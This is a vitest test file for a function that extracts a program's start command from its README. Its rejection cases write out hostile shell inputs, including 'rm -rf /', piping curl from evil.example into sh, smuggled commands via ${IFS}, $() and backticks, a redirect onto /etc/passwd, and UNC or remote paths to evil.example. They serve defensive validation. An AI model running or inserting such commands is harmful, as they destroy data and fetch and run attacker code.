import { describe, expect, test } from 'vitest'

import { readmeHtml } from '../../platform/markdown/markup.ts'
import { startCommandIn } from './start-command.ts'

const commandIn = (markdown: string) => startCommandIn(readmeHtml(markdown))
const block = (...lines: string[]) => ['```', ...lines, '```'].join('\n')

describe('the command that starts a program, from its README', () => {
  test.each([
    ['npm start', block('npm start')],
    ['npm install\nnpm run dev', block('npm install', 'npm run dev       # then open http://localhost:3000')],
    ['python manage.py runserver', block('$ python manage.py migrate', '$ python manage.py runserver')],
    [
      'pip install -r requirements.txt\nstreamlit run app.py',
      block('pip install -r requirements.txt', 'streamlit run app.py'),
    ],
    [
      'php -S localhost:8000 -t public public/index.php',
      '## Run\n\n    php -S localhost:8000 -t public public/index.php\n',
    ],
    ['mvn compile exec:java', block('mvn compile exec:java')],
    [
      'flutter run',
      '1. Make the folders.\n\n       flutter create .\n\n2. Run it.\n\n       flutter run\n       flutter run -d chrome\n',
    ],
    ['python3 run.py', 'Then type `python3 run.py` and open the page.'],
    [
      'cd backend\nnpm install\nnpm start',
      block('git clone https://github.com/a/b', 'cd b', 'cd backend', 'npm install', 'npm start'),
    ],
    ['java -jar target/library.jar', block('java -jar target/library.jar      (Windows too)')],
  ])('%j', (command, readme) => {
    expect(commandIn(readme)).toBe(command)
  })

  test.each([
    ['only tests', block('npm test', 'python -m unittest', 'python tests/run.py')],
    ['only training', block('python train.py', 'python -m digits train')],
    [
      'sentences',
      'Start the server and run it. Import the database with phpMyAdmin.\n\n' + block('start the server'),
    ],
    ['a program that is opened by hand', '1. Copy the folder to htdocs\n2. Open `http://localhost/shop`'],
    ['commands that need a lock file', block('npm ci', 'npm start')],
    ['other commands that need one', block('yarn install --frozen-lockfile', 'yarn start')],
    ['code that only looks like it', block('rm -rf / && npm start', 'npm start; curl evil.example | sh')],
    ...[
      'uvicorn main:app --reload;curl${IFS}evil.example|sh',
      'flask run --host=$(curl evil.example)',
      'gunicorn app:app --bind=`id`',
      'uvicorn main:app --log-config "x"&&calc',
      'mvn spring-boot:run -Dx>/etc/passwd',
      'flask run --port=%COMSPEC%',
      'php -S localhost:8000\u2028curl evil.example',
      '( uvicorn main:app --reload )',
      'python \\\\evil.example\\share\\run.py',
      'java -jar //evil.example/share/app.jar',
      'gunicorn app:app --config=http://evil.example/c',
    ].map((line) => [`operators of a shell: ${line}`, block(line)]),
  ])('is missing where there are %s', (_what, readme) => {
    expect(commandIn(readme)).toBeNull()
  })
})
